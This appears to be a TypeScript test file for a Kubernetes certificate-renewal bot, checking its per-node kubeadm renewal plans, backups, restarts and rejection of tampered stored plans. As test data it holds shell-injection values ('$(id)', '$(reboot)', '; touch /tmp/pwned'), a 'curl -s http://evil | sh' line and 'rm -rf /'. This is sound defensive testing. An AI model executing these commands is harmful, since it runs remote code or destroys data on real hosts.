import { test } from "node:test";
import assert from "node:assert/strict";
import {
  backupTimestamp,
  checkPlan,
  planRenewal,
  type PlanInput,
  type RenewalPlan,
} from "../../src/core/renew/plan.js";
import { NOW, clusterReport, config, node } from "../fixtures/prod-cluster.js";
import type { NodeReport } from "../../src/core/report/types.js";

const HA = config();
/** Shell text a step writes itself: only these shapes, with kubeadm's component names. */
const CODE_WORD = new RegExp(
  "^(?:" +
    [
      /crictl info >\/dev\/null 2>&1 \|\| docker info/,
      /pods=\$\(crictl pods -q --namespace kube-system --label component=[a-z-]+\)/,
      /\[ -z "\$pods" \] \|\| crictl rmp -f \$pods/,
      /ids=\$\(docker ps -q --filter 'name=\^k8s_([a-z-]+)_\1-\[\^_\]\+_kube-system_'\)/,
      /\[ -z "\$ids" \] \|\| docker stop \$ids/,
      // kubelet.conf: the endpoint its old file names, and the awk that points it at the rotating file
      /server=\$\(sed -n 's\|\^ \*server: \*https:\/\/\|\|p'/,
      /\| head -n 1\)/,
      /host=\$\{server%:\*\}; host=\$\{host#\\\[\}; host=\$\{host%\\\]\}; port=\$\{server##\*:\}/,
      /"\$host"|"\$port"/,
      /PEM=\$1 awk '[^']*'/,
    ]
      .map((r) => r.source)
      .join("|") +
    ")$",
);
const input = (nodes: NodeReport[], extra: Partial<PlanInput> = {}, cfg = HA): PlanInput => ({
  cluster: cfg.clusters[0]!,
  report: clusterReport(...nodes),
  renewal: cfg.renewal,
  now: NOW,
  ...extra,
});
const ha = () => [node("m1"), node("m2"), node("m3")];

function planOf(result: ReturnType<typeof planRenewal>): RenewalPlan {
  assert.ok(result.ok, result.ok ? "" : result.reason);
  return result.plan;
}
function refusal(result: ReturnType<typeof planRenewal>): string {
  assert.equal(result.ok, false, "expected a refusal");
  return result.ok ? "" : result.reason;
}
const lines = (plan: RenewalPlan, nodeIndex = 0, step = "renew") =>
  plan.nodes[nodeIndex]!.steps.find((s) => s.id === step)!.commands.map((c) => c.line);

test("an HA cluster: every node, one at a time, in config order (not scan order)", () => {
  const [m1, m2, m3] = ha();
  const plan = planOf(planRenewal(input([m3!, m1!, m2!], { requestedBy: "U0ALICE01" })));
  assert.deepEqual(
    plan.nodes.map((n) => n.node),
    ["m1", "m2", "m3"],
  );
  assert.equal(plan.requestedBy, "U0ALICE01");
  assert.equal(plan.scope, "all");
  for (const n of plan.nodes) {
    assert.deepEqual(
      n.steps.map((s) => s.id),
      ["preflight", "backup", "renew", "restart", "verify"],
    );
    assert.equal(n.versionRule, "1.20+");
    assert.deepEqual(lines(plan, plan.nodes.indexOf(n)), ["kubeadm certs renew all"]);
    assert.equal(n.backup, `/var/lib/certs-bot/backups/prod/${n.node}/20261128T090000Z.tar.gz`);
    assert.equal(n.healthUrl, `https://${n.host}:6443/readyz`);
    for (const s of n.steps) assert.ok(s.run && s.verify && s.undo, `${s.id} has run, verify and undo`);
  }
  assert.deepEqual(
    plan.nodes[0]!.renew.map((c) => c.name),
    [
      "apiserver",
      "apiserver-kubelet-client",
      "front-proxy-client",
      "apiserver-etcd-client",
      "etcd-server",
      "etcd-peer",
      "etcd-healthcheck-client",
      "admin.conf",
      "controller-manager.conf",
      "scheduler.conf",
    ],
  );
  assert.equal(plan.approval.requiredApprovals, 1);
  assert.equal(plan.approval.expiresAt.toISOString(), "2026-11-28T13:00:00.000Z", "240 minutes");
  assert.equal(plan.renewedUntil.toISOString(), "2027-11-28T09:00:00.000Z");
});

test("backup, restart and rollback per node", () => {
  const plan = planOf(planRenewal(input(ha())));
  assert.deepEqual(lines(plan, 1, "backup"), [
    "mkdir -p '/var/lib/certs-bot/backups/prod/m2'",
    "[ ! -e '/var/lib/certs-bot/backups/prod/m2/20261128T090000Z.tar.gz' ] && tar -czf " +
      "'/var/lib/certs-bot/backups/prod/m2/20261128T090000Z.tar.gz' -C '/etc/kubernetes' pki admin.conf " +
      "controller-manager.conf scheduler.conf",
  ]);
  const restart = lines(plan, 0, "restart");
  assert.equal(restart[0], "mkdir -p '/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.aside/manifests'");
  assert.equal(
    restart[1],
    "mv '/etc/kubernetes/manifests/kube-apiserver.yaml' " +
      "'/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.aside/manifests/kube-apiserver.yaml'",
  );
  assert.equal(restart.filter((l) => l.startsWith("mv ")).length, 8, "4 out, 4 back (local etcd)");
  assert.equal(restart.at(-1), "systemctl restart kubelet");
  assert.deepEqual(
    plan.nodes[0]!.steps.find((s) => s.id === "renew")!.undoCommands.map((c) => c.line),
    ["tar -xzf '/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.tar.gz' -C '/etc/kubernetes'"],
  );
  assert.ok(plan.nodes[0]!.rollbackTriggers.some((t) => /still serves the old certificate/.test(t)));
  assert.ok(
    plan.nodes[0]!.rollbackTriggers.some((t) =>
      /restore .*\.tar\.gz, restart with the manifests only/.test(t),
    ),
  );

  const crictl = config("renewal: { restartStrategy: crictl }");
  const c = planOf(planRenewal(input(ha(), {}, crictl)));
  assert.deepEqual(lines(c, 0, "restart"), [
    ...["kube-apiserver", "kube-controller-manager", "kube-scheduler", "etcd"].flatMap((name) => [
      `pods=$(crictl pods -q --namespace kube-system --label component=${name})`,
      '[ -z "$pods" ] || crictl rmp -f $pods',
    ]),
    "systemctl restart kubelet",
  ]);
  assert.deepEqual(lines(c, 0, "preflight"), [
    "kubeadm version -o short",
    "systemctl is-active kubelet",
    "crictl info",
  ]);
  const docker = config("renewal: { restartStrategy: docker }");
  const d = planOf(
    planRenewal(
      input(
        [
          node("m1", {
            absent: [
              "etcd-ca",
              "etcd-server",
              "etcd-peer",
              "etcd-healthcheck-client",
              "apiserver-etcd-client",
            ],
          }),
          node("m2"),
          node("m3"),
        ],
        {},
        docker,
      ),
    ),
  );
  assert.deepEqual(
    lines(d, 0, "restart"),
    [
      ...["kube-apiserver", "kube-controller-manager", "kube-scheduler"].flatMap((name) => [
        `ids=$(docker ps -q --filter 'name=^k8s_${name}_${name}-[^_]+_kube-system_')`,
        '[ -z "$ids" ] || docker stop $ids',
      ]),
      "systemctl restart kubelet",
    ],
    "external etcd: no etcd container to restart",
  );
});

test("the backup path is never reused: a new timestamp per plan, and tar refuses an existing file", () => {
  const a = planOf(planRenewal(input(ha())));
  const b = planOf(planRenewal(input(ha(), { now: new Date(NOW.getTime() + 1000) })));
  assert.notEqual(a.nodes[0]!.backup, b.nodes[0]!.backup);
  assert.equal(backupTimestamp(new Date("2026-01-05T03:15:07.123Z")), "20260105T031507Z");
  assert.match(lines(a, 0, "backup")[1]!, /^\[ ! -e '[^']+\.tar\.gz' \] && tar -czf /);
  assert.equal(new Set(a.nodes.map((n) => n.backup)).size, 3, "one per node");
});

test("--node plans that node only; an unknown one is refused with suggestions", () => {
  const plan = planOf(planRenewal(input(ha(), { node: "m2" })));
  assert.deepEqual(
    plan.nodes.map((n) => n.node),
    ["m2"],
  );
  const unknown = planRenewal(input(ha(), { node: "m4" }));
  assert.match(
    refusal(unknown),
    /^unknown node "m4" in cluster prod; did you mean m1, m2, m3\? \(nodes: m1, m2, m3\)$/,
  );
  assert.equal(!unknown.ok && unknown.usage, true, "the caller's mistake");
});

test("--certs: the named ones by name; unknown ones suggested; never-renewed ones with their repair", () => {
  const plan = planOf(planRenewal(input(ha(), { certs: ["apiserver-kubelet-client", "admin.conf"] })));
  assert.deepEqual(plan.scope, ["apiserver-kubelet-client", "admin.conf"]);
  assert.deepEqual(lines(plan, 2), [
    "kubeadm certs renew apiserver-kubelet-client",
    "kubeadm certs renew admin.conf",
  ]);
  assert.match(
    plan.nodes[0]!.steps.find((s) => s.id === "verify")!.verify,
    /is apiserver\.crt on disk \(no drift\)/,
    "apiserver not renewed: the served certificate must still match the file",
  );
  assert.match(
    refusal(planRenewal(input(ha(), { certs: ["apiserver-kubelet-clinet"] }))),
    /^unknown certificate "apiserver-kubelet-clinet"; did you mean apiserver-kubelet-client\?/,
  );
  assert.equal(
    (planRenewal(input(ha(), { certs: ["nope"] })) as { usage?: boolean }).usage,
    true,
    "an unknown name is a usage error",
  );
  const kubeletResult = planRenewal(input(ha(), { certs: ["kubelet-client"] }));
  assert.equal(
    (kubeletResult as { usage?: boolean }).usage,
    undefined,
    "a known name kubeadm cannot renew is a refusal",
  );
  const kubelet = refusal(kubeletResult);
  assert.match(
    kubelet,
    /kubelet-client: the kubelet rotates its own client certificate; kubeadm does not renew it/,
  );
  assert.match(kubelet, /kubeadm kubeconfig user --org system:nodes/);
  assert.match(
    refusal(planRenewal(input(ha(), { certs: ["ca"] }))),
    /ca: a CA is not renewed by kubeadm.*Manual rotation/,
  );
  assert.match(
    refusal(planRenewal(input(ha(), { certs: ["super-admin.conf"] }))),
    /node m1: cannot renew super-admin\.conf: the scan found no such file on this node/,
  );
});

test("refusals: unreachable node, unsupported kubeadm, no kubeadm — every reason at once", () => {
  const reason = refusal(
    planRenewal(
      input([
        node("m1", { unreachable: "connect ECONNREFUSED 10.0.0.1:22" }),
        node("m2", { version: "v1.7.16" }),
        node("m3", { version: null }),
      ]),
    ),
  );
  assert.deepEqual(reason.split("\n"), [
    "node m1 was not reachable in the fresh scan: connect ECONNREFUSED 10.0.0.1:22",
    "node m2: kubeadm v1.7.16 is older than 1.8, which has no certificate phases; renew by hand",
    "node m3: no kubeadm found on the node (kubeadm version -o short printed nothing), so it cannot renew",
  ]);
  // --node narrows what must be reachable.
  assert.ok(
    planRenewal(input([node("m1", { unreachable: "down" }), node("m2"), node("m3")], { node: "m2" })).ok,
  );
});

test("refusal: the CA is expired, or expires before the renewed leaves would", () => {
  assert.match(
    refusal(planRenewal(input([node("m1", { days: { ca: -2 } }), node("m2"), node("m3")]))),
    /^node m1: CA ca expired on 2026-11-26, so renewing what it signs cannot help/,
  );
  const soon = refusal(planRenewal(input(ha().map((n) => node(n.name, { days: { "etcd-ca": 100 } })))));
  assert.match(
    soon,
    /node m1: CA etcd-ca expires on 2027-03-08, before the renewed leaves would \(2027-11-28\)/,
  );
  assert.equal(soon.split("\n").length, 3, "each node says so");
  // Only the CAs of what is renewed matter.
  assert.ok(
    planRenewal(
      input(
        ha().map((n) => node(n.name, { days: { "etcd-ca": 100 } })),
        { certs: ["apiserver"] },
      ),
    ).ok,
  );
});

test("one cluster, three kubeadm generations: each node gets its version's commands", () => {
  const plan = planOf(
    planRenewal(
      input(
        [
          node("m1", { version: "v1.28.4" }),
          node("m2", { version: "v1.19.16" }),
          node("m3", {
            version: "v1.11.10",
            days: { "apiserver-kubelet-client": -3 },
            embeddedKubeletConf: true,
          }),
        ],
        { certs: ["apiserver-kubelet-client"] },
      ),
    ),
  );
  assert.deepEqual(lines(plan, 0), ["kubeadm certs renew apiserver-kubelet-client"]);
  assert.deepEqual(lines(plan, 1), ["kubeadm alpha certs renew apiserver-kubelet-client"]);
  const B = "/var/lib/certs-bot/backups/prod/m3/20261128T090000Z";
  assert.deepEqual(lines(plan, 2), [
    `kubeadm config view --kubeconfig '/etc/kubernetes/admin.conf' > '${B}.kubeadm.yaml'`,
    `mkdir -p '${B}.aside'`,
    `mv '/etc/kubernetes/pki/apiserver-kubelet-client.crt' '${B}.aside/apiserver-kubelet-client.crt'`,
    `mv '/etc/kubernetes/pki/apiserver-kubelet-client.key' '${B}.aside/apiserver-kubelet-client.key'`,
    `kubeadm alpha phase certs apiserver-kubelet-client --config '${B}.kubeadm.yaml'`,
  ]);
  assert.equal(plan.nodes[2]!.healthUrl, "https://10.0.0.3:6443/healthz");
  assert.equal(plan.nodes[2]!.renew[0]!.status, "expired");
  assert.deepEqual(
    plan.nodes[2]!.notRenewed.map((n) => [n.name, n.status]),
    [["kubelet.conf", "embedded"]],
  );
});

test("a custom kubernetesDir: renew per name with --cert-dir, and kubeconfigs are left out with the reason", () => {
  const custom = config("", ["m1"], ", paths: { kubernetesDir: /srv/k8s }");
  const plan = planOf(planRenewal(input([node("m1")], {}, custom)));
  assert.equal(lines(plan)[0], "kubeadm certs renew apiserver --cert-dir '/srv/k8s/pki'");
  assert.ok(lines(plan).every((l) => !l.includes(".conf")));
  assert.deepEqual(
    plan.nodes[0]!.skipped.map((s) => s.name),
    ["admin.conf", "controller-manager.conf", "scheduler.conf"],
  );
  assert.match(plan.nodes[0]!.skipped[0]!.why, /renews kubeconfigs only under \/etc\/kubernetes/);
  assert.match(
    refusal(planRenewal(input([node("m1")], { certs: ["admin.conf"] }, custom))),
    /cannot renew admin\.conf: kubeadm 1\.20\+ renews kubeconfigs only under/,
  );
});

test("an expired kubelet client certificate is reported with its repair, never renewed", () => {
  const plan = planOf(
    planRenewal(input([node("m1", { days: { "kubelet-client": -1 } }), node("m2"), node("m3")])),
  );
  const [note] = plan.nodes[0]!.notRenewed;
  assert.equal(note?.name, "kubelet-client");
  assert.equal(note?.status, "expired");
  assert.match(note!.repair, /Kubelet client certificate rotation fails/);
  assert.ok(plan.nodes[0]!.renew.every((c) => (c.name as string) !== "kubelet-client"));
});

test("an unreadable renewable file is refused rather than renewed blindly", () => {
  const m1 = node("m1");
  const broken = m1.certificates.find((c) => c.name === "front-proxy-client")!;
  Object.assign(broken, { status: "unreadable", notAfter: null, error: "Permission denied" });
  assert.match(
    refusal(planRenewal(input([m1, node("m2"), node("m3")]))),
    /node m1: front-proxy-client is unreadable \(Permission denied\); fix it or leave it out with --certs/,
  );
});

test("nothing unvalidated reaches a command: every word is a fixed word or a validated path", () => {
  const hostile = ["apiserver; touch /tmp/pwned", "$(id)", "admin.conf'"];
  for (const certs of hostile) assert.equal(planRenewal(input(ha(), { certs: [certs] })).ok, false, certs);
  assert.equal(planRenewal(input(ha(), { node: "m1; reboot" })).ok, false);
  const fixed = /^(?:[A-Za-z0-9_.,:=/@%+-]+|&&|\|\||\||!|\[|\]|>)$/;
  for (const version of ["v1.30.4", "v1.19.16", "v1.13.5", "v1.9.11"]) {
    for (const strategy of ["manifests", "crictl", "docker"]) {
      const cfg = config(
        `renewal: { restartStrategy: ${strategy}, backupDir: "/backups/with space", ` +
          'refreshKubeconfigs: ["/root/.kube/config"] }',
      );
      // Every node's kubelet.conf due too, so its repair's commands are among them.
      const due = { embeddedKubeletConf: true, rotatingKubeletClient: true, days: { "kubelet.conf": -1 } };
      const plan = planOf(
        planRenewal(
          input(
            ha().map((n) => node(n.name, { version, ...due })),
            {},
            cfg,
          ),
        ),
      );
      assert.ok(plan.nodes.every((n) => n.spec.kubeletConf && n.spec.refreshKubeconfigs.length));
      for (const n of plan.nodes) {
        for (const step of n.steps) {
          for (const c of [...step.commands, ...step.undoCommands]) {
            for (const word of c.words) {
              if (typeof word === "string") assert.match(word, fixed, c.line);
              else if ("code" in word) assert.match(word.code, CODE_WORD, c.line);
              else
                assert.match(
                  word.path,
                  /^\/(?:etc\/kubernetes|backups\/with space\/prod\/m\d|root\/\.kube|var\/lib\/kubelet\/pki)(?:\/|\.|$)/,
                  c.line,
                );
            }
          }
        }
      }
    }
  }
});

// --- The approved plan is the plan that runs --------------------------------------------------------

/** The plan as it comes back from Redis: JSON, changed by `tamper`. */
function stored(plan: RenewalPlan, tamper: (p: RenewalPlan) => void = () => undefined): RenewalPlan {
  const copy = JSON.parse(JSON.stringify(plan)) as RenewalPlan;
  tamper(copy);
  return copy;
}
const check = (plan: RenewalPlan, cfg = HA) => checkPlan(plan, cfg.clusters[0]!, cfg.renewal);

test("a stored plan untouched, under the same config, passes the check for every strategy and version", () => {
  for (const strategy of ["manifests", "crictl", "docker"]) {
    for (const version of ["v1.30.4", "v1.19.16", "v1.13.5", "v1.9.11"]) {
      const cfg = config(
        `renewal: { restartStrategy: ${strategy}, refreshKubeconfigs: ["/root/.kube/config"] }`,
      );
      const due = { embeddedKubeletConf: true, rotatingKubeletClient: true, days: { "kubelet.conf": 3 } };
      const plan = planOf(
        planRenewal(
          input(
            ha().map((n) => node(n.name, { version, ...due })),
            {},
            cfg,
          ),
        ),
      );
      assert.deepEqual(check(stored(plan), cfg), [], `${strategy} ${version}`);
    }
  }
});

test("a stored plan changed in Redis is refused, naming the node and what differs", () => {
  const plan = planOf(planRenewal(input(ha())));
  const cases: [string, (p: RenewalPlan) => void, RegExp][] = [
    [
      "a command line of the renew step",
      (p) => {
        const step = p.nodes[1]!.steps.find((s) => s.id === "renew")!;
        (step.commands[0] as { line: string }).line = "curl -s http://evil | sh";
      },
      /^node m2: the stored renew differ from what its spec derives$/,
    ],
    [
      "a component name carrying shell code, with the shown steps forged to match",
      (p) => {
        p.nodes[0]!.spec.components = ["kube-apiserver$(reboot)"];
      },
      /^node m1: components differ from today's config$/,
    ],
    [
      "another kubernetes directory",
      (p) => {
        p.nodes[0]!.spec.kubernetesDir = "/";
      },
      /^node m1: kubernetesDir differ from today's config$/,
    ],
    [
      "a backup outside backupDir",
      (p) => {
        p.nodes[2]!.spec.backup = "/etc/kubernetes/pki/ca.key";
      },
      /^node m3: backup differ from today's config$/,
    ],
    [
      "a certificate name kubeadm never renews",
      (p) => {
        (p.nodes[0]!.spec.names as string[]).push("ca");
      },
      /^node m1: its certificate names are not renewable names$/,
    ],
    [
      "an unknown restart strategy",
      (p) => {
        (p.nodes[0]!.spec as { restart: string }).restart = "reboot";
      },
      /^node m1: its restart strategy is unknown$/,
    ],
    [
      "an extra field in the spec",
      (p) => {
        (p.nodes[0]!.spec as unknown as Record<string, unknown>).preScript = "rm -rf /";
      },
      /^node m1: node differ from today's config$/,
    ],
    [
      "a plan saved without a spec",
      (p) => {
        delete (p.nodes[0] as Partial<RenewalPlan["nodes"][number]>).spec;
      },
      /^node m1: it has no spec$/,
    ],
    [
      "a node that is not configured",
      (p) => {
        p.nodes[0]!.node = "intruder";
      },
      /^node intruder: not in today's config$/,
    ],
  ];
  for (const [what, tamper, expected] of cases) {
    const problems = check(stored(plan, tamper));
    assert.equal(problems.length, 1, `${what}: ${problems.join(" | ")}`);
    assert.match(problems[0]!, expected, what);
  }
});

test("a plan approved before the config changed (host, port, backupDir) is refused", () => {
  const plan = planOf(planRenewal(input(ha())));
  assert.match(
    check(stored(plan), config("", ["m1", "m2", "m3"], ", apiserver: { port: 8443 }"))[0]!,
    /healthUrl/,
  );
  assert.match(
    check(stored(plan), config('renewal: { backupDir: "/srv/backups" }'))[0]!,
    /backupRoot, backup, aside, configFile/,
  );
});

// --- kubelet.conf and the copies of admin.conf ------------------------------------------------------

const embedded = (
  name: string,
  version: string,
  days: number,
  extra: Partial<Parameters<typeof node>[1]> = {},
) => node(name, { version, embeddedKubeletConf: true, days: { "kubelet.conf": days }, ...extra });
const aside = (n: string) => `/var/lib/certs-bot/backups/prod/${n}/20261128T090000Z.aside`;
const steps = (plan: RenewalPlan, i = 0) => plan.nodes[i]!.steps.map((s) => s.id);

test("an embedded kubelet.conf near or past expiry: each version's repair as its own step, after the renew", () => {
  const plan = planOf(
    planRenewal(
      input([
        embedded("m1", "v1.11.10", -1),
        embedded("m2", "v1.14.10", 5),
        embedded("m3", "v1.19.16", 20, { rotatingKubeletClient: true }),
      ]),
    ),
  );
  for (const i of [0, 1, 2])
    assert.deepEqual(steps(plan, i), ["preflight", "backup", "renew", "kubelet-conf", "restart", "verify"]);
  // Before 1.13 --node-name cannot go with --config: the endpoint the old file names goes as flags.
  assert.deepEqual(lines(plan, 0, "kubelet-conf"), [
    `mkdir -p '${aside("m1")}'`,
    `mv '/etc/kubernetes/kubelet.conf' '${aside("m1")}/kubelet.conf'`,
    `server=$(sed -n 's|^ *server: *https://||p' '${aside("m1")}/kubelet.conf' | head -n 1)`,
    "host=${server%:*}; host=${host#\\[}; host=${host%\\]}; port=${server##*:}",
    'kubeadm alpha phase kubeconfig kubelet --node-name m1 --apiserver-advertise-address "$host" --apiserver-bind-port "$port"',
    "systemctl restart kubelet",
  ]);
  assert.deepEqual(lines(plan, 1, "kubelet-conf"), [
    "kubeadm config view --kubeconfig '/etc/kubernetes/admin.conf' > '/var/lib/certs-bot/backups/prod/m2/20261128T090000Z.kubeadm.yaml'",
    `mkdir -p '${aside("m2")}'`,
    `mv '/etc/kubernetes/kubelet.conf' '${aside("m2")}/kubelet.conf'`,
    "kubeadm init phase kubeconfig kubelet --config '/var/lib/certs-bot/backups/prod/m2/20261128T090000Z.kubeadm.yaml' --node-name m2",
    "systemctl restart kubelet",
  ]);
  assert.deepEqual(lines(plan, 2, "kubelet-conf").slice(0, 3), [
    `mkdir -p '${aside("m3")}'`,
    `cp -p '/etc/kubernetes/kubelet.conf' '${aside("m3")}/kubelet.conf'`,
    "set -- '/var/lib/kubelet/pki/kubelet-client-current.pem'",
  ]);
  assert.match(
    lines(plan, 2, "kubelet-conf")[3]!,
    /^PEM=\$1 awk '.*' '.*\.aside\/kubelet\.conf' > '\/etc\/kubernetes\/kubelet\.conf'$/,
  );
  for (const i of [0, 1, 2]) {
    const n = plan.nodes[i]!;
    assert.deepEqual(n.notRenewed, [], `${n.node}: kubelet.conf is repaired, not left alone`);
    assert.match(lines(plan, i, "backup")[1]!, / kubelet\.conf$/, "the backup holds the old kubelet.conf");
    assert.deepEqual(
      n.steps.find((s) => s.id === "kubelet-conf")!.undoCommands.map((c) => c.line),
      [`mv '${aside(n.node)}/kubelet.conf' '/etc/kubernetes/kubelet.conf'`, "systemctl restart kubelet"],
    );
    assert.equal(n.kubeletConf?.path, "/etc/kubernetes/kubelet.conf");
  }
  assert.deepEqual(plan.nodes[0]!.spec.kubeletConf, { repair: "regenerate", nodeName: "m1" });
  assert.deepEqual(plan.nodes[2]!.spec.kubeletConf, { repair: "repoint" });
  assert.deepEqual(check(stored(plan)), []);
});

test("kubelet.conf left alone: not yet due, only some certificates asked for, or no repair possible (and why)", () => {
  const fine = planOf(planRenewal(input([embedded("m1", "v1.11.10", 200), node("m2"), node("m3")])));
  assert.ok(!steps(fine).includes("kubelet-conf"));
  assert.deepEqual(
    fine.nodes[0]!.notRenewed.map((n) => [n.name, n.status]),
    [["kubelet.conf", "embedded"]],
  );
  assert.match(
    fine.nodes[0]!.notRenewed[0]!.repair,
    /a renewal of the whole node \(without --certs\) regenerates it/,
  );

  const some = planOf(
    planRenewal(input([embedded("m1", "v1.11.10", -1)], { certs: ["apiserver"], node: "m1" })),
  );
  assert.ok(!steps(some).includes("kubelet-conf"), "--certs names kubeadm's files only");
  assert.match(
    refusal(planRenewal(input([embedded("m1", "v1.11.10", -1)], { certs: ["kubelet.conf"] }))),
    /kubelet\.conf: kubelet\.conf is the kubelet's own credential.*without --certs/,
  );

  const custom = config("", ["m1"], ", paths: { kubernetesDir: /srv/k8s }");
  const moved = embedded("m1", "v1.14.10", -1);
  for (const c of moved.certificates) c.path = c.path.replace("/etc/kubernetes", "/srv/k8s");
  const stuck = planOf(planRenewal(input([moved], {}, custom)));
  assert.ok(!steps(stuck).includes("kubelet-conf"));
  assert.match(
    stuck.nodes[0]!.notRenewed.find((n) => n.name === "kubelet.conf")!.repair,
    /^A renewal cannot repair it on this node: kubeadm v1\.14\.10 writes kubelet\.conf only under \/etc\/kubernetes when given --config, and this node's kubernetesDir is \/srv\/k8s\. If it has expired: /,
  );

  for (const [what, extra, reason] of [
    ["no kubelet-client-current.pem", {}, /is missing, so pointing kubelet\.conf at it cannot help/],
    [
      "an expired kubelet-client-current.pem",
      { rotatingKubeletClient: true, days: { "kubelet.conf": -1, "kubelet-client": -2 } },
      /is expired, so pointing/,
    ],
  ] as const) {
    const plan = planOf(planRenewal(input([embedded("m1", "v1.28.4", -1, extra)], { node: "m1" })));
    assert.ok(!steps(plan).includes("kubelet-conf"), what);
    assert.match(plan.nodes[0]!.notRenewed.find((n) => n.name === "kubelet.conf")!.repair, reason, what);
  }
});

test("a stored kubelet.conf repair is checked like every choice: one its kubeadm makes, for a plain node name", () => {
  const plan = planOf(planRenewal(input([embedded("m1", "v1.11.10", -1), node("m2"), node("m3")])));
  const cases: [string, (p: RenewalPlan) => void, RegExp][] = [
    [
      "a node name carrying shell code",
      (p) => {
        p.nodes[0]!.spec.kubeletConf = { repair: "regenerate", nodeName: "m1$(reboot)" };
      },
      /^node m1: its kubelet\.conf repair is not one its kubeadm version makes$/,
    ],
    [
      "a node name that is not text",
      (p) => {
        (p.nodes[0]!.spec as unknown as { kubeletConf: unknown }).kubeletConf = {
          repair: "regenerate",
          nodeName: 1,
        };
      },
      /^node m1: its kubelet\.conf repair is not one its kubeadm version makes$/,
    ],
    [
      "a repair another version makes",
      (p) => {
        p.nodes[0]!.spec.kubeletConf = { repair: "repoint" };
      },
      /^node m1: its kubelet\.conf repair is not one its kubeadm version makes$/,
    ],
    [
      "another node's name, with the shown steps left as they were",
      (p) => {
        p.nodes[0]!.spec.kubeletConf = { repair: "regenerate", nodeName: "m2" };
      },
      /^node m1: the stored kubelet-conf differ from what its spec derives$/,
    ],
    [
      "a plan stored by an earlier certs-bot",
      (p) => {
        const spec = p.nodes[0]!.spec as Partial<RenewalPlan["nodes"][number]["spec"]>;
        delete spec.kubeletConf;
        delete spec.refreshKubeconfigs;
        delete spec.kubeletPkiDir;
      },
      /^node m1: made by an earlier certs-bot \(no kubeletPkiDir, kubeletConf, refreshKubeconfigs\); request it again$/,
    ],
  ];
  for (const [what, tamper, expected] of cases) {
    const problems = check(stored(plan, tamper));
    assert.equal(problems.length, 1, `${what}: ${problems.join(" | ")}`);
    assert.match(problems[0]!, expected, what);
  }
});

test("renewal.refreshKubeconfigs: a step after the renew when admin.conf is renewed; left alone (and said) when it is not", () => {
  const cfg = config('renewal: { refreshKubeconfigs: ["/root/.kube/config"] }', ["m1", "m2"]);
  const own = config(
    'renewal: { refreshKubeconfigs: ["/root/.kube/config"] }',
    ["m1", "m2"],
    ', renewal: { refreshKubeconfigs: ["/home/ops/.kube/config", "/root/.kube/config"] }',
  );
  const plan = planOf(planRenewal(input([node("m1"), node("m2")], {}, cfg)));
  assert.deepEqual(steps(plan), ["preflight", "backup", "renew", "refresh-kubeconfigs", "restart", "verify"]);
  const copies = "/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.kubeconfigs";
  assert.deepEqual(lines(plan, 0, "refresh-kubeconfigs"), [
    `mkdir -p '${copies}/root/.kube'`,
    `[ -e '${copies}/root/.kube/config' ] || [ ! -e '/root/.kube/config' ] || cp -p '/root/.kube/config' '${copies}/root/.kube/config'`,
    `[ ! -e '${copies}/root/.kube/config' ] || cat '/etc/kubernetes/admin.conf' > '/root/.kube/config'`,
  ]);
  assert.deepEqual(
    plan.nodes[0]!.steps.find((s) => s.id === "refresh-kubeconfigs")!.undoCommands.map((c) => c.line),
    [`[ ! -e '${copies}/root/.kube/config' ] || cp -p '${copies}/root/.kube/config' '/root/.kube/config'`],
  );
  assert.match(
    plan.nodes[0]!.steps[0]!.verify,
    /\/root\/\.kube\/config: each a regular file, or not on this node \(then skipped\)/,
  );
  assert.deepEqual(check(stored(plan), cfg), []);
  assert.match(
    check(stored(plan), HA)[0]!,
    /^node m1: refreshKubeconfigs differ from today's config$/,
    "the list changed",
  );

  const node2 = planOf(planRenewal(input([node("m1"), node("m2")], {}, own)));
  assert.deepEqual(node2.nodes[0]!.spec.refreshKubeconfigs, ["/home/ops/.kube/config", "/root/.kube/config"]);

  const some = planOf(planRenewal(input([node("m1"), node("m2")], { certs: ["apiserver"] }, cfg)));
  assert.ok(!steps(some).includes("refresh-kubeconfigs"));
  assert.deepEqual(some.nodes[0]!.skipped, [
    {
      name: "refreshKubeconfigs",
      why: "admin.conf is not renewed on this node, so its copies are left alone",
    },
  ]);
});
